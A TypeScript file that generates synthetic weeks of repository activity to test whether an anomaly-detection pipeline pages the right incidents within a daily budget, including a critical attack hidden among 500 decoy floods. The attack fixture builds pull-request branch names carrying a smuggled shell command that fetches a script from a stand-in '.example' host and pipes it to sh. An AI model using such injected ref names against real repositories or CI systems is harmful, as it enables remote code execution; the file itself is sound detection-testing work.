import { Random } from "@oddwatch/anomaly";
import {
  type Activity,
  DEFAULT_SETTINGS,
  type Incident,
  IncidentBook,
  Pipeline,
  type PipelineOutput,
  SEVERITIES,
  type Severity,
} from "@oddwatch/pipeline";
import { DAY_MS, FIRST_MONDAY, madeDays, word } from "./made-week.ts";
import type { Table } from "./text-table.ts";

const DAYS = 7;
/** Days that are seen before the week that counts. */
const BEFORE = 7;
const ODDITIES_A_DAY = 56;
const DECOYS = 500;
const DECOY_DAY = 3;

/** What was paged in one made week. */
export interface MadeWeek {
  name: string;
  events: number;
  /** Incidents a day that a person will read. */
  budget: number;
  /** Pages of each day, critical ones not counted. */
  pages: number[];
  criticalPages: number[];
  /** Incidents of each day that became medium or worse: what could be paged. */
  candidates: number[];
  /** In the week with decoys: what came of the one critical incident among them. */
  critical?: { paged: boolean; rank: number | undefined; severity: Severity | undefined };
  /** What should be and is not, one sentence each. */
  misses: string[];
}

/**
 * Three made weeks after a week of warm-up: a drifting one with oddities on every day, a quiet one, and one in which an
 * attacker floods 500 decoys beside a critical incident. Synthetic: nothing recorded is in them.
 */
export function driftingWeeks(seed: string): MadeWeek[] {
  const quiet = madeDays(BEFORE + DAYS, seed);
  const random = new Random(`${seed}/oddities`);
  const odd = Array.from({ length: DAYS * ODDITIES_A_DAY }, (_, index) =>
    ODDITIES[index % ODDITIES.length](random, dayStart(Math.floor(index / ODDITIES_A_DAY)), `odd${index}`),
  );
  const decoys = Array.from({ length: DECOYS }, (_, index) => flood(random, dayStart(DECOY_DAY), `decoy${index}`));
  const attacker = `${word(random)}${word(random)}`;
  const attack = shellInRefs(random, attacker, dayStart(DECOY_DAY) + 0.8 * DAY_MS);
  return [
    withBudgetMisses(judgeWeek("drifting week with oddities", among(quiet, odd.flat()))),
    withQuietMisses(judgeWeek("quiet week", quiet)),
    withDecoyMisses(judgeWeek("quiet week with 500 decoys", among(quiet, [...decoys.flat(), ...attack]), attacker)),
  ];
}

function dayStart(day: number): number {
  return FIRST_MONDAY + (BEFORE + day) * DAY_MS;
}

/** What is odd in the drifting week: several kinds, so that they are no campaign of one sort. */
const ODDITIES = [flood, sameTextEverywhere, foreignDeletions, tagsMovedTogether];

/** A new account leaves one text in the repositories of strangers. */
function sameTextEverywhere(random: Random, day: number, name: string): Activity[] {
  const actor = `${word(random)}${name}`;
  const shape = Array.from({ length: 9 }, () => word(random)).join(" ");
  const text = { excerpt: shape, length: shape.length, shape, hosts: [`${word(random)}${name}.example`], mentions: 0 };
  return steps(random, { day, count: 25 + Math.floor(random.next() * 50), stepMs: 20_000 }).map((at, index) => {
    const repo = `${word(random)}${word(random)}/${word(random)}`;
    const base = { id: `${name}-${index}`, at, seenAt: at, lane: "public" as const, actor, repo };
    return { ...base, kind: "issue", type: "IssuesEvent", action: "opened", text };
  });
}

/** Somebody deletes the branches of an owner for whom they never worked. */
function foreignDeletions(random: Random, day: number, name: string): Activity[] {
  const actor = `${word(random)}${name}`;
  const owner = `${word(random)}-${name}`;
  return steps(random, { day, count: 30 + Math.floor(random.next() * 60), stepMs: 5_000 }).map((at, index) => {
    const repo = `${owner}/${word(random)}`;
    const base = { id: `${name}-${index}`, at, seenAt: at, lane: "public" as const, actor, repo };
    return { ...base, kind: "delete", type: "DeleteEvent", what: "branch", ref: `${word(random)}-${word(random)}` };
  });
}

/** The version tags of a repository are deleted and made anew one after the other. */
function tagsMovedTogether(random: Random, day: number, name: string): Activity[] {
  const actor = `${word(random)}${name}`;
  const repo = `${word(random)}-${name}/${word(random)}`;
  const count = 12 + Math.floor(random.next() * 20);
  return steps(random, { day, count: 2 * count, stepMs: 3_000 }).map((at, index) => {
    const base = { id: `${name}-${index}`, at, seenAt: at, lane: "public" as const, actor, repo };
    const ref = `v1.${Math.floor(index / 2)}.0`;
    return index % 2 === 0
      ? { ...base, kind: "delete", type: "DeleteEvent", what: "tag", ref }
      : { ...base, kind: "create", type: "CreateEvent", what: "tag", ref };
  });
}

/** Moments of one oddity, in ms since epoch: whole seconds from somewhere in the day on. */
function steps(random: Random, { day, count, stepMs }: { day: number; count: number; stepMs: number }): number[] {
  const start = day + Math.floor(random.next() * 0.95 * DAY_MS);
  return Array.from(
    { length: count },
    (_, index) => start + Math.floor((index * stepMs * (0.5 + random.next())) / 1000) * 1000,
  ).sort((a, b) => a - b);
}

/** A new account floods a repository of its own with issues for some minutes. */
function flood(random: Random, day: number, name: string): Activity[] {
  const actor = `${word(random)}${name}`;
  const count = 30 + Math.floor(random.next() * 90);
  return steps(random, { day, count, stepMs: 2000 + random.next() * 8000 }).map((at, index) => {
    const base = { id: `${name}-${index}`, at, seenAt: at, lane: "public" as const, actor, repo: `${actor}/board` };
    return { ...base, kind: "issue", type: "IssuesEvent", action: "opened" };
  });
}

/** Pull requests to many repositories whose branches are named with shell commands. */
function shellInRefs(random: Random, actor: string, start: number): Activity[] {
  return Array.from({ length: 12 }, (_, index) => {
    const at = start + index * 40_000;
    const base = { id: `critical-${index}`, at, seenAt: at, lane: "public" as const, actor };
    const headRef = `fix-$(curl -s ${word(random)}.example|sh)`;
    const repo = `${word(random)}/${word(random)}`;
    return { ...base, kind: "pull-request", type: "PullRequestEvent", action: "opened", repo, headRef };
  });
}

function among(quiet: readonly Activity[], more: readonly Activity[]): Activity[] {
  return [...quiet, ...more].sort((a, b) => a.at - b.at);
}

function judgeWeek(name: string, activities: readonly Activity[], attacker?: string): MadeWeek {
  const pipeline = new Pipeline();
  const tally = new PageTally();
  let seq = 0;
  for (const activity of activities) {
    seq += 1;
    for (const output of pipeline.process([{ seq, activity }])) tally.take(output);
  }
  const week = { name, events: activities.length, budget: DEFAULT_SETTINGS.budget.incidents, ...tally.byDay() };
  return attacker === undefined ? week : { ...week, critical: tally.incidentOf(attacker) };
}

/** Counts pages and candidates by day. */
class PageTally {
  readonly #book = new IncidentBook();
  readonly #latest = new Map<string, Incident>();
  readonly #pages: { at: number; critical: boolean }[] = [];

  take(output: PipelineOutput): void {
    this.#book.apply(output);
    if (output.output === "incident") this.#latest.set(output.incident.id, output.incident);
    if (output.output !== "ledger" || output.decision !== "paged") return;
    const severity = this.#latest.get(output.incidentId ?? "")?.severity;
    this.#pages.push({ at: output.at, critical: severity === "critical" });
  }

  byDay(): Pick<MadeWeek, "pages" | "criticalPages" | "candidates" | "misses"> {
    const perDay = (times: readonly number[]) =>
      Array.from(
        { length: DAYS },
        (_, day) => times.filter((at) => Math.floor((at - dayStart(0)) / DAY_MS) === day).length,
      );
    const medium = SEVERITIES.indexOf("medium");
    const incidents = this.#book.ranked().map(({ incident }) => incident);
    const candidates = incidents.filter(({ severity }) => SEVERITIES.indexOf(severity) >= medium);
    return {
      pages: perDay(this.#pages.filter(({ critical }) => !critical).map(({ at }) => at)),
      criticalPages: perDay(this.#pages.filter(({ critical }) => critical).map(({ at }) => at)),
      candidates: perDay(candidates.map(({ detectedAt }) => detectedAt)),
      misses: [],
    };
  }

  incidentOf(actor: string): NonNullable<MadeWeek["critical"]> {
    const ranked = this.#book.ranked();
    const index = ranked.findIndex(({ incident }) => incident.entities.some(({ name }) => name === actor));
    const incident = ranked[index]?.incident;
    return {
      paged: incident?.pagedAt !== undefined,
      rank: index === -1 ? undefined : index + 1,
      severity: incident?.severity,
    };
  }
}

/** At most the budget on each day, and most of it on days that have enough to tell. */
function withBudgetMisses(week: MadeWeek): MadeWeek {
  const { pages, criticalPages, candidates, budget } = week;
  const misses = pages.flatMap((count, day) => {
    if (count > budget) return [`day ${day + 1}: ${count} pages, more than the budget of ${budget}`];
    const ordinary = candidates[day] - criticalPages[day];
    return ordinary >= budget && count < 0.8 * budget
      ? [`day ${day + 1}: ${count} pages of a budget of ${budget}, although ${ordinary} could be told`]
      : [];
  });
  return { ...week, misses };
}

function withQuietMisses(week: MadeWeek): MadeWeek {
  const pages = [...week.pages, ...week.criticalPages].reduce((sum, count) => sum + count, 0);
  return { ...week, misses: pages === 0 ? [] : [`${pages} pages in a quiet week`] };
}

function withDecoyMisses(week: MadeWeek): MadeWeek {
  const misses = week.pages
    .filter((count) => count > week.budget)
    .map((count) => `${count} pages on one day, more than the budget of ${week.budget}`);
  if (!week.critical?.paged) misses.push("the critical incident was not paged");
  return { ...week, misses };
}

/** The weeks as a table. */
export function weekTable(weeks: readonly MadeWeek[]): Table {
  const head = ["made week (synthetic)", "events", "pages by day", "critical", "candidates by day", "the critical one"];
  return [
    head,
    ...weeks.map(({ name, events, pages, criticalPages, candidates, critical }) => [
      name,
      String(events),
      pages.join(" "),
      criticalPages.join(" "),
      candidates.join(" "),
      critical === undefined ? "" : `rank ${critical.rank ?? "-"}, ${critical.paged ? "paged" : "not paged"}`,
    ]),
  ];
}
